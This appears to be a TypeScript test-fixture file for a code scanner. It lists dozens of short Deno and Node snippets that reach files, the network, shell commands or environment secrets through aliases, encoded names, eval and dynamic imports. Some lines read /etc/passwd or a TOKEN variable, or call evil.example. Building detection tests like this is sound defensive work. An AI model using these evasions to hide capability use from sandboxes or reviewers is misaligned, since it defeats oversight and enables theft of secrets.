/** Ways to do something without saying so: each must be seen, whatever it is called. */

/** By name: the code; a name that ends in `.ts` or `.cjs` says what it is. */
export const EVASIONS: Readonly<Record<string, string>> = {
  // Plain, so that the table shows what is looked for.
  "plain read": `Deno.readTextFileSync("/etc/passwd")`,
  "plain fetch": `fetch("https://evil.example/x")`,
  "plain command": `new Deno.Command("sh")`,
  // Other names of the same thing.
  "alias": `const d = Deno; d.readTextFileSync("/x")`,
  "alias of an alias": `const a = Deno, b = a, c = b; c.run({ cmd: [] })`,
  "pattern": `const { readTextFile } = Deno; readTextFile("/x")`,
  "renamed in a pattern":
    `const { readTextFile: harmless } = Deno; harmless("/x")`,
  "pattern in a pattern":
    `const { Deno: { readTextFile: r } } = globalThis; r("/x")`,
  "default in a pattern": `const { x = Deno } = {}; x.readTextFileSync("/x")`,
  "default of a parameter":
    `function f(d = Deno) { return d.readTextFileSync("/x") } f()`,
  "rest in a pattern":
    `const { version, ...all } = Deno; all.readTextFileSync("/x")`,
  "assigned later": `let d; d = Deno; d.readTextFileSync("/x")`,
  "assigned in an expression": `let d; (d = Deno).readTextFileSync("/x")`,
  "assigned by a pattern": `let f; ({ readTextFileSync: f } = Deno); f("/x")`,
  "assigned in a list": `let d; [d] = [Deno]; d.readTextFileSync("/x")`,
  "one of several":
    `const d = Math.random() > 2 ? null : Deno; d.readTextFileSync("/x")`,
  "or": `const d = undefined || Deno; d.readTextFileSync("/x")`,
  "comma": `(0, Deno).readTextFileSync("/x")`,
  "optional": `Deno?.readTextFileSync?.("/x")`,
  "in an object": `const o = { d: Deno }; o.d.readTextFileSync("/x")`,
  "in an object with its name":
    `const o = { Deno }; o.Deno.readTextFileSync("/x")`,
  "in a list": `const l = [Deno]; l[0].readTextFileSync("/x")`,
  "in a map": `new Map([["d", Deno]]).get("d").readTextFileSync("/x")`,
  "in a class": `class A { d = Deno } new A().d.readTextFileSync("/x")`,
  "in a static block":
    `class A { static { A.d = Deno } } A.d.readTextFileSync("/x")`,
  "in a getter":
    `const o = { get d() { return Deno } }; o.d.readTextFileSync("/x")`,
  "in a generator":
    `function* g() { yield Deno } for (const d of g()) d.readTextFileSync("/x")`,
  "in a closure": `const f = () => Deno; f().readTextFileSync("/x")`,
  "in a promise": `Promise.resolve(Deno).then((d) => d.readTextFileSync("/x"))`,
  "awaited": `const d = await Deno; d.readTextFileSync("/x")`,
  "thrown": `try { throw Deno } catch (d) { d.readTextFileSync("/x") }`,
  "copied": `const d = { ...Deno }; d.readTextFileSync("/x")`,
  "assigned to another":
    `const d = Object.assign({}, Deno); d.readTextFileSync("/x")`,
  "as a prototype": `const d = Object.create(Deno); d.readTextFileSync("/x")`,
  "listed":
    `Object.values(Deno).find((f) => f.name === "readTextFileSync")("/x")`,
  "walked": `for (const k in Deno) if (k.length === 16) Deno[k]("/x")`,
  "behind a proxy": `new Proxy(Deno, {}).readTextFileSync("/x")`,
  "with": `with (Deno) { readTextFileSync("/x") } //.cjs`,
  "an argument": `((d) => d.readTextFileSync("/x"))(Deno)`,
  "an argument of a named function":
    `function f(d) { d.readTextFileSync("/x") } f(Deno)`,
  "bound": `const f = Deno.readTextFileSync.bind(Deno); f("/x")`,
  "called by call": `Deno.readTextFileSync.call(Deno, "/x")`,
  "called by apply": `Deno.readTextFileSync.apply(Deno, ["/x"])`,
  "called by Reflect": `Reflect.apply(Deno.readTextFileSync, Deno, ["/x"])`,
  "constructed by Reflect": `Reflect.construct(Deno.Command, ["sh"])`,
  "given to map": `["/x"].map(Deno.readTextFileSync)`,
  "descriptor":
    `Object.getOwnPropertyDescriptor(Deno, "readTextFileSync").value("/x")`,
  "tagged": "Deno.readTextFileSync`/x`",
  // Names that are computed.
  "bracket": `Deno["readTextFileSync"]("/x")`,
  "sum": `Deno["read" + "TextFileSync"]("/x")`,
  "template": 'Deno[`read${"Text"}FileSync`]("/x")',
  "joined": `Deno[["read", "TextFileSync"].join("")]("/x")`,
  "reversed": `Deno["cnySeliFtxeTdaer".split("").reverse().join("")]("/x")`,
  "codes": `Deno[String.fromCharCode(114, 117, 110)]("/x")`,
  "spread codes": `Deno[String.fromCharCode(...[114, 117, 110])]("/x")`,
  "mapped codes":
    `Deno[[114, 117, 110].map((c) => String.fromCharCode(c)).join("")]({})`,
  "base64": `Deno[atob("cnVu")]({ cmd: [] })`,
  "hex escapes": `Deno["\\x72\\x75\\x6e"]({ cmd: [] })`,
  "unicode escapes": `Deno["\\u{72}un"]({ cmd: [] })`,
  "escapes in a name": `De\\u006eo.readTextFileSync("/x")`,
  "percent": `Deno[decodeURIComponent("%72%75%6e")]({})`,
  "replaced": `Deno["rXun".replace("X", "")]({})`,
  "Buffer": `Deno[Buffer.from("72756e", "hex").toString()]({})`,
  "TextDecoder":
    `Deno[new TextDecoder().decode(new Uint8Array([114, 117, 110]))]({})`,
  "a variable": `const k = "readTextFileSync"; Deno[k]("/x")`,
  "a name in an object": `const names = { a: "run" }; Deno[names.a]({})`,
  "a computed pattern": `const k = "run"; const { [k]: f } = Deno; f()`,
  "Reflect.get": `Reflect.get(Deno, "readTextFileSync")("/x")`,
  "a name from outside": `Deno[location.hash](0)`,
  "a name that is found":
    `Deno[Object.keys(Deno).find((k) => k.startsWith("readText"))]("/x")`,
  // The global object.
  "globalThis": `globalThis.Deno.readTextFileSync("/x")`,
  "globalThis twice":
    `globalThis.globalThis["De" + "no"].readTextFileSync("/x")`,
  "self": `self.Deno.readTextFileSync("/x")`,
  "global alias": `const g = globalThis; g.fetch("https://evil.example/")`,
  "global computed": `globalThis["fe" + "tch"]("https://evil.example/")`,
  "global unknown": `globalThis[atob(document.title)]("x")`,
  "global passed": `((g) => g.Deno)(globalThis)`,
  "global in a list":
    `[globalThis].forEach((g) => g.fetch("https://evil.example/"))`,
  "this of a function":
    `(function () { return this })().Deno.readTextFileSync("/x") //.cjs`,
  "this with a name":
    `(function () { this.Deno.readTextFileSync("/x") })() //.cjs`,
  "global from Function": `Function("return this")().Deno.run({})`,
  // Code from texts.
  "eval": `eval("1")`,
  "indirect eval": `(0, eval)("1")`,
  "eval alias": `const e = eval; e("1")`,
  "Function": `Function("x", "return x")(1)`,
  "new Function": `new Function("alert(1)")()`,
  "constructor of a function": `(() => {}).constructor("return Deno")()`,
  "constructor of a method": `[].map.constructor("return Deno")()`,
  "constructor of what shows a function":
    `Function.toString.constructor("return Deno")()`,
  "constructor twice": `"".constructor.constructor("return Deno")()`,
  "constructor in brackets": `[]["filter"]["constructor"]("return Deno")()`,
  "async constructor":
    `Object.getPrototypeOf(async function () {}).constructor("1")()`,
  "constructor in a pattern":
    `const { constructor: F } = () => {}; F("return Deno")()`,
  "setTimeout": `setTimeout("fetch('x')", 0)`,
  "setInterval": "setInterval(`x${1}`, 5)",
  "import data": `import("data:text/javascript,Deno.exit()")`,
  "import blob": `import(URL.createObjectURL(new Blob(["1"])))`,
  "import computed": `import(globalThis.name)`,
  "worker of a data URL":
    `new Worker("data:text/javascript,1", { type: "module" })`,
  "worker of a blob":
    `new Worker(URL.createObjectURL(new Blob([""])), { type: "module" })`,
  "WebAssembly": `WebAssembly.instantiate(new Uint8Array())`,
  "WebAssembly alias":
    `const { instantiate: i } = WebAssembly; i(new Uint8Array())`,
  "node:vm": `import vm from "node:vm"; vm.runInThisContext("1")`,
  "vm as a name": `import { runInThisContext as r } from "vm"; r("1")`,
  // Node.
  "node:fs": `import { readFileSync } from "node:fs"; readFileSync("/x")`,
  "fs as a whole": `import * as f from "fs"; f.writeFileSync("/x", "")`,
  "fs by default": `import f from "node:fs"; f.promises.readFile("/x")`,
  "fs again exported": `export * from "node:fs"`,
  "one name exported": `export { readFileSync } from "node:fs"`,
  "fs by import()": `(await import("node:fs")).readFileSync("/x")`,
  "fs by then": `import("node:fs").then((f) => f.readFileSync("/x"))`,
  "fs by then and a pattern":
    `import("node:fs").then(({ readFileSync }) => readFileSync("/x"))`,
  "fs by a computed import":
    `const m = await import("node:" + "fs"); m.readFileSync("/x")`,
  "require": `require("child_process").execSync("id") //.cjs`,
  "require alias": `const r = require; r("fs").readFileSync("/x") //.cjs`,
  "createRequire":
    `import { createRequire } from "node:module"; createRequire(import.meta.url)("fs").readFileSync("/x")`,
  "getBuiltinModule": `process.getBuiltinModule("child_process").exec("id")`,
  "process.binding": `process.binding("fs")`,
  "process from a module": `import p from "node:process"; p.env.TOKEN`,
  "import equals": `import cp = require("child_process"); cp.exec("id") //.ts`,
  "environment listed": `Object.entries(process.env)`,
};

/** Kept apart: written before the scanner, and looked at once it was done. */
export const KEPT_APART: Readonly<Record<string, string>> = {
  "optional bracket": `globalThis?.["Deno"]?.["readTextFileSync"]("/x")`,
  "nested template": "globalThis[`${`De`}${'no'}`].run({})",
  "chained alias through a function":
    `const id = (x) => x; id(Deno).readTextFileSync("/x")`,
  "label and comma": `a: { const x = (1, 2, Deno); x.run({}) }`,
  "switch": `switch (1) { case 1: var q = Deno; } q.readTextFileSync("/x")`,
  "for init": `for (let d = Deno; d; d = null) d.readTextFileSync("/x")`,
  "nullish assignment": `let d; d ??= Deno; d.readTextFileSync("/x")`,
  "static property": `class K { static d = Deno.readTextFileSync } K.d("/x")`,
  "private field":
    `class K { #d = Deno; go() { return this.#d.readTextFileSync("/x") } } new K().go()`,
  "super tagged": "String.raw`${Deno.env.get('TOKEN')}`",
  "array method": `[Deno].at(0).readTextFileSync("/x")`,
  "JSON name": `Deno[JSON.parse('"run"')]()`,
  "slice name": `Deno["xxreadTextFileSync".slice(2)]("/x")`,
  "concat name": `Deno["read".concat("TextFile", "Sync")]("/x")`,
  "charAt name": `Deno["r".charAt(0) + "u" + "n"]()`,
  "upper case name": `globalThis["DENO"[0] + "eno"].run()`,
  "number base name": `Deno[(36095).toString(36)]({})`,
  "symbol hop":
    `const s = Symbol(); const o = { [s]: Deno }; o[s].readTextFileSync("/x")`,
  "weak ref": `new WeakRef(Deno).deref().readTextFileSync("/x")`,
  "error stack": `Error.prepareStackTrace = (e, s) => s[0].getThis().Deno`,
  "import attributes": `import t from "/etc/passwd" with { type: "text" }`,
  "https import": `import "https://evil.example/mod.ts"`,
  "export star https": `export * from "https://evil.example/mod.ts"`,
  "worker from the net":
    `new Worker("https://evil.example/w.js", { type: "module" })`,
  "XHR by name": `new globalThis["WebSo" + "cket"]("wss://evil.example")`,
  "dlopen": `Deno.dlopen("./x.so", {})`,
  "ffi alias": `const { dlopen: o } = Deno; o("./x.so", {})`,
  "sqlite":
    `import { DatabaseSync } from "node:sqlite"; new DatabaseSync("/x")`,
  "http get": `import http from "node:http"; http.get("http://evil.example/")`,
  "net socket": `import { Socket } from "node:net"; new Socket().connect(1)`,
  "os": `import os from "os"; os.hostname()`,
  "process env alias": `const { env } = process; env.TOKEN`,
  "process env computed": `process["e" + "nv"]["TOK" + "EN"]`,
  "Deno env pattern": `const { env: { get: g } } = Deno; g("TOKEN")`,
  "native addon": `require("./build/x.node") //.cjs`,
  "module require": `module.require("fs").readFileSync("/x") //.cjs`,
  "worker_threads":
    `import { Worker } from "node:worker_threads"; new Worker("1", { eval: true })`,
  "GeneratorFunction":
    `Reflect.getPrototypeOf(function* () {}).constructor("yield 1")`,
  "Function by apply": `Function.apply(null, ["return 1"])()`,
  "eval by call": `eval.call(null, "1")`,
};
